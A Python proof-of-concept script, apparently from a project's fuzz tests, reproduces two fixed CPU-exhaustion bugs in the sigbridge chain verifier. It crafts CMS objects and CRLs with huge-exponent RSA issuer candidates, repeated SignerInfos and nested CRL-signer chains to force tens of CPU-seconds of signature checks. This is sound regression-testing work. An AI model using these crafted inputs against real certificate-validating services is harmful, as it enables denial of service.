#!/usr/bin/env python3
"""tests/fuzz/poc/cpu_exhaustion.py — reproducers for two unbounded-CPU findings of issue 10 (fixed).

Both use issuer candidates whose RSA key has a 2048-bit modulus and a ~2047-bit public exponent: OpenSSL
allows any exponent for moduli up to 3072 bits, so every X509_verify() against such a key costs a full
private-size modular exponentiation (~2.5 ms here) instead of ~20 us, and pki/x509/chain.c tries each
same-named candidate's key (try_issuer -> sb_sig_verify_cert -> X509_verify) before any key check.

  signers  OUT/signers.cms: the HK CMS object of SB_BIN sign, carrying leaf + NCAND such candidates and
           NSIG copies of its SignerInfo. sb_cms_verify validates the chain once per SignerInfo with a
           fresh budget (SB_CHAIN_MAX_SIG_CHECKS per signer, nothing shared), so the cost is
           NSIG x NCAND checks: 64 x 255 measured 42 CPU-seconds for a 335 KB object.
             SB_BIN verify --json --anchor SB_PKI/hk/root.pem OUT/signers.cms
  crlsigner OUT/attack.der + OUT/evil.crl: a CRL named like the HK intermediate but signed by another key K,
           N1 certificates named like the intermediate with key K (each verifies the CRL, so crl_signer()
           runs a nested sb_chain_validate with fresh budgets for each), issued by "CN=Y", and N2 "CN=Y"
           candidates with the slow keys: N1 x N2 checks for one path validation (48 x 48: 5.6 CPU-s;
           bounded only by 400 x 400 per level, and one more nesting level is allowed).
             SB_BIN chain --json --anchor SB_PKI/hk/root.pem --untrusted SB_PKI/hk/int.pem \\
                 --untrusted OUT/attack.der --crl OUT/evil.crl SB_PKI/hk/leaf.pem

usage: SB_BIN=build/sigbridge SB_PKI=build/pki python3 tests/fuzz/poc/cpu_exhaustion.py OUT [NCAND NSIG N1 N2]
(defaults 255 64 48 48). Needs openssl and python3 only. SB_POC_EXPONENT=65537 gives the candidates an
ordinary public exponent instead: each check then costs a normal RSA verification (~20 us), and the
inputs exercise the shared signature budgets rather than the up-front key check.

Status: both are bounded since 9aacb5b (keys with e >= 2^32 are refused before use; budgets shared per
object and with nested CRL-signer validations); tests/integration/test_cpu_budget.sh runs them in make test.
"""
import os
import random
import subprocess
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
SRC = open(os.path.join(HERE, "..", "..", "integration", "malformed.py")).read()
exec(SRC[SRC.index("class N:"):SRC.index("OID = {")])  # the DER tree helpers (N, tree, enc, oid, seq)

BIN = os.environ.get("SB_BIN", "build/sigbridge")
PKI = os.environ.get("SB_PKI", "build/pki")
USAGE = "usage: cpu_exhaustion.py OUTDIR [NCAND NSIG N1 N2]"
if len(sys.argv) < 2 or len(sys.argv) > 6 or any(a.startswith("-") for a in sys.argv[1:]):
    # No options: an option taken as OUTDIR once created a directory named '--help' in the repository.
    sys.exit(USAGE)
OUT = sys.argv[1]
NCAND, NSIG, N1, N2 = (int(x) for x in (sys.argv[2:6] + ["255", "64", "48", "48"][len(sys.argv[2:6]):]))
os.makedirs(OUT, exist_ok=True)
random.seed(10)


def der(path, kind="x509"):
    return subprocess.run(["openssl", kind, "-in", path, "-outform", "DER"], stdout=subprocess.PIPE, check=True).stdout


def int_bytes(v):
    return v.to_bytes((v.bit_length() + 8) // 8, "big")


def slow_rsa_spki():
    n = (1 << 2048) - 1 - (random.getrandbits(2000) << 1)   # odd; top bits set, so any 2048-bit signature is < n
    e = int(os.environ["SB_POC_EXPONENT"]) if os.environ.get("SB_POC_EXPONENT") else \
        random.getrandbits(2047) | 1 | (1 << 2046)
    pub = enc(seq(N(0x02, None, int_bytes(n)), N(0x02, None, int_bytes(e))))
    return seq(seq(oid("1.2.840.113549.1.1.1"), N(0x05)), N(0x03, None, b"\x00" + pub))


INT = tree(der(f"{PKI}/hk/int.pem"))
LEAF = der(f"{PKI}/hk/leaf.pem")

# ---- signers: one SignerInfo repeated, each validated against the same slow candidates ----------------------
doc = os.path.join(OUT, "doc.txt")
open(doc, "wb").write(b"cpu exhaustion\n")
cms = subprocess.run([BIN, "sign", "--key", f"{PKI}/hk/leaf.key", "--cert", f"{PKI}/hk/leaf.pem", doc],
                     stdout=subprocess.PIPE, check=True).stdout
cands = []
for k in range(NCAND):
    c = INT.copy()
    c[0][6] = slow_rsa_spki()
    c[0][1].val = (0x7000 + k).to_bytes(2, "big")
    cands.append(c)
t = tree(cms)
sd = t[1][0]
certs = [tree(LEAF)] + cands
if sd[3].tag == b"\xa0":
    sd[3].kids = certs
else:
    sd.kids.insert(3, N(0xA0, certs))
sd[-1].kids = sd[-1].kids * NSIG
open(os.path.join(OUT, "signers.cms"), "wb").write(enc(t))

# ---- crlsigner: nested validation per CRL-signer candidate ------------------------------------------------
key = os.path.join(OUT, "K.key")
subprocess.run(["openssl", "genpkey", "-algorithm", "RSA", "-pkeyopt", "rsa_keygen_bits:2048", "-out", key],
               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=True)
spki = tree(subprocess.run(["openssl", "pkey", "-in", key, "-pubout", "-outform", "DER"], stdout=subprocess.PIPE,
                           check=True).stdout)
crl = tree(der(f"{PKI}/hk/int.crl", "crl"))
tbs = os.path.join(OUT, "tbs.bin")
open(tbs, "wb").write(enc(crl[0]))
sig = subprocess.run(["openssl", "dgst", "-sha256", "-sign", key, tbs], stdout=subprocess.PIPE, check=True).stdout
crl.kids[2] = N(0x03, None, b"\x00" + sig)
open(os.path.join(OUT, "evil.crl"), "wb").write(enc(crl))
y = seq(N(0x31, [seq(oid("2.5.4.3"), N(0x0C, None, b"Y"))]))
out = b""
for k in range(N1):
    c = INT.copy()
    c[0][6] = spki.copy()
    c[0][1].val = (0x6000 + k).to_bytes(2, "big")
    c[0][3] = y.copy()
    out += enc(c)
for k in range(N2):
    c = INT.copy()
    c[0][5] = y.copy()
    c[0][6] = slow_rsa_spki()
    c[0][1].val = (0x5000 + k).to_bytes(2, "big")
    out += enc(c)
open(os.path.join(OUT, "attack.der"), "wb").write(out)
print(f"wrote {OUT}/signers.cms ({NSIG} signers x {NCAND} candidates), {OUT}/attack.der + evil.crl ({N1} x {N2})")
